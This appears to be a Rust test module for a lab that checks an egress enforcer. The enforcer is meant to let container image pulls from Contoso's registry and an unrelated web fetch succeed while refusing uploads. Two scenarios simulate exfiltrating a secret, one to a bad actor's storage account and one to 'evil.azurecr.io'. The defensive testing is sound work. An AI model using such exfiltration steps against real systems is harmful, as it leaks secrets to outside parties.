//! The scenarios of every phase, and their outcomes.

use std::{net::IpAddr, time::Duration};

use anyhow::{Context, Result};
use lab::{
    CONTOSO_LOGIN, EVIL_LOGIN, Lab,
    engines::ImageStore as _,
    fixtures::process::{Finished, run},
    servers::{azurite::HOST, nginx::Request, registry::IMAGE},
};

use crate::environment::{Environment, Phase};

/// An unrelated web site.
const WEB_SITE: &str = "www.example.org";
/// Contoso's login server in eastus, and in westus while the replica there serves.
const EASTUS: [u8; 4] = [198, 51, 100, 10];
const WESTUS: [u8; 4] = [198, 51, 100, 70];

/// A scenario on the device.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Scenario {
    /// Pulls while the region eastus serves contoso.
    Pull,
    /// Pulls with Docker.
    PullWithDocker,
    /// Pulls after the login server moved to an address that it never had before.
    PullMoved,
    /// Pulls while the region westus serves contoso.
    PullReplica,
    /// Uploads to the bad actor's storage account with the Azure SDK.
    Upload,
    /// Pushes to the bad actor's registry.
    Push,
    /// Fetches a page that has nothing to do with Azure.
    Web,
}

/// The outcome of a scenario.
#[derive(Clone, Debug)]
pub(crate) enum Outcome {
    /// It succeeded, as without an enforcer.
    Works(String),
    /// The kernel refused it with `EPERM`, and no request arrived.
    Refused(String),
    /// Anything else.
    Failed(String),
}

impl Scenario {
    /// All scenarios, in the order of execution.
    pub(crate) const ALL: [Self; 7] = [
        Self::Pull,
        Self::PullWithDocker,
        Self::PullReplica,
        Self::PullMoved,
        Self::Upload,
        Self::Push,
        Self::Web,
    ];

    /// Returns its description.
    pub(crate) fn title(self) -> &'static str {
        match self {
            Self::Pull => "pull contoso's image",
            Self::PullWithDocker => "pull contoso's image with Docker",
            Self::PullReplica => "pull while the replica in westus serves",
            Self::PullMoved => "pull from an address never used before",
            Self::Upload => "upload a secret to the bad actor's account",
            Self::Push => "push the secret to evil.azurecr.io",
            Self::Web => "fetch a page of an unrelated web site",
        }
    }

    /// Whether it is expected to work in `phase`; otherwise it must be refused.
    pub(crate) fn is_expected_to_work(self, phase: Phase) -> bool {
        match self {
            Self::Pull | Self::PullWithDocker | Self::PullReplica | Self::PullMoved | Self::Web => {
                true
            }
            Self::Upload | Self::Push => phase == Phase::Before,
        }
    }

    /// Runs the scenario.
    ///
    /// # Errors
    /// When the lab fails; a failed scenario is an outcome.
    pub(crate) fn attempt(self, environment: &Environment) -> Result<Outcome> {
        match self {
            Self::Pull => pull(environment, EASTUS.into()),
            Self::PullWithDocker => pull_with_docker(environment),
            Self::PullReplica => pull(environment, WESTUS.into()),
            Self::PullMoved => pull(environment, environment.phase().fresh_address()),
            Self::Upload => upload(environment.lab()),
            Self::Push => push(environment.lab()),
            Self::Web => fetch(environment.lab()),
        }
    }
}

impl Outcome {
    /// Whether it is the expected outcome.
    pub(crate) fn is_as_expected(&self, is_expected_to_work: bool) -> bool {
        match self {
            Self::Works(_) => is_expected_to_work,
            Self::Refused(_) => !is_expected_to_work,
            Self::Failed(_) => false,
        }
    }

    /// Returns a one-word summary.
    pub(crate) fn word(&self) -> &'static str {
        match self {
            Self::Works(_) => "works",
            Self::Refused(_) => "refused",
            Self::Failed(_) => "FAILED",
        }
    }

    /// Returns the evidence.
    pub(crate) fn detail(&self) -> &str {
        match self {
            Self::Works(detail) | Self::Refused(detail) | Self::Failed(detail) => detail,
        }
    }
}

fn pull(environment: &Environment, address: IpAddr) -> Result<Outcome> {
    let lab = environment.lab();
    let delay = environment.move_login_server(address)?;
    let earlier = lab.requests()?.len();
    let pulled = match lab.pull() {
        Ok(pulled) => pulled,
        Err(error) => return refused(&lab.requests()?[earlier..], CONTOSO_LOGIN, &error),
    };
    let kilobytes = pulled.bytes / 1000;
    Ok(match layers_from(&lab.requests()?[earlier..]) {
        Some(host) => Outcome::Works(format!(
            "manifest from {address}{delay}, {} layers ({kilobytes} kB) by redirect (307) from {host}",
            pulled.layers
        )),
        None => Outcome::Failed("no data endpoint served a layer".to_owned()),
    })
}

fn pull_with_docker(environment: &Environment) -> Result<Outcome> {
    let (lab, docker) = (environment.lab(), environment.docker());
    let earlier = lab.requests()?.len();
    let image = format!("{CONTOSO_LOGIN}/{IMAGE}");
    if let Err(error) = docker.pull(&image) {
        return Ok(Outcome::Failed(format!("{error:#}")));
    }
    docker.remove(&image)?;
    Ok(match layers_from(&lab.requests()?[earlier..]) {
        Some(host) => Outcome::Works(format!(
            "dockerd pulled it, its layers by redirect (307) from {host}"
        )),
        None => Outcome::Failed("no data endpoint served a layer".to_owned()),
    })
}

/// Returns the data endpoint that served layers after a redirect by the login server.
fn layers_from(requests: &[Request]) -> Option<&str> {
    let redirected = |request: &&Request| request.status == 307 && request.host == CONTOSO_LOGIN;
    requests.iter().find(redirected)?;
    let served = |request: &&Request| request.status == 200 && request.host.contains(".data.");
    requests
        .iter()
        .find(served)
        .map(|request| request.host.as_str())
}

fn upload(lab: &Lab) -> Result<Outcome> {
    let earlier = lab.requests()?.len();
    let result = lab.exfiltrate_sdk(&lab.device())?;
    let requests = lab.requests()?;
    let milliseconds = result.seconds * 1000.0;
    let arrived = arrived(&requests[earlier..], HOST);
    Ok(match (result.ok, result.errno) {
        (true, _) if arrived > 0 => {
            Outcome::Works(format!("the Azure SDK uploaded it, and {HOST} received it"))
        }
        (false, Some(libc::EPERM)) if arrived == 0 => Outcome::Refused(format!(
            "the Azure SDK got EPERM ({}) after {milliseconds:.0} ms, and no request arrived",
            nix::errno::Errno::EPERM.desc()
        )),
        _ => Outcome::Failed(format!("{result:?}, {arrived} requests arrived")),
    })
}

fn push(lab: &Lab) -> Result<Outcome> {
    let earlier = lab.requests()?.len();
    if let Err(error) = lab.push_to(EVIL_LOGIN, &lab.device()) {
        return refused(&lab.requests()?[earlier..], EVIL_LOGIN, &error);
    }
    let arrived = arrived(&lab.requests()?[earlier..], EVIL_LOGIN);
    Ok(if arrived > 0 {
        Outcome::Works(format!("skopeo pushed it, and {EVIL_LOGIN} received it"))
    } else {
        Outcome::Failed("skopeo reported success, but no request arrived".to_owned())
    })
}

fn fetch(lab: &Lab) -> Result<Outcome> {
    let mut curl = lab.device().command("curl");
    curl.args(["--disable", "--silent", "--show-error", "--fail"])
        .args(["--max-time", "10", "--noproxy", "*", "--cacert"])
        .arg(lab.certificates().ca())
        .arg(format!("https://{WEB_SITE}/"));
    let page: Finished = run(curl, Duration::from_secs(15)).context("run curl")?;
    Ok(if page.status.success() && page.stdout.contains("hello") {
        Outcome::Works(format!("curl fetched it from {WEB_SITE}"))
    } else {
        Outcome::Failed(page.stderr)
    })
}

/// Returns the outcome of a client that failed with `error`: refused if the error is `EPERM` and no request arrived at `host`.
fn refused(requests: &[Request], host: &str, error: &anyhow::Error) -> Result<Outcome> {
    let error = format!("{error:#}");
    let arrived = arrived(requests, host);
    let says_so = error.to_lowercase().contains("operation not permitted");
    Ok(if says_so && arrived == 0 {
        Outcome::Refused(format!(
            "skopeo got EPERM, and no request arrived at {host}"
        ))
    } else {
        Outcome::Failed(format!("{error}; {arrived} requests arrived"))
    })
}

fn arrived(requests: &[Request], host: &str) -> usize {
    let matching = requests.iter().filter(|request| request.host == host);
    matching.count()
}
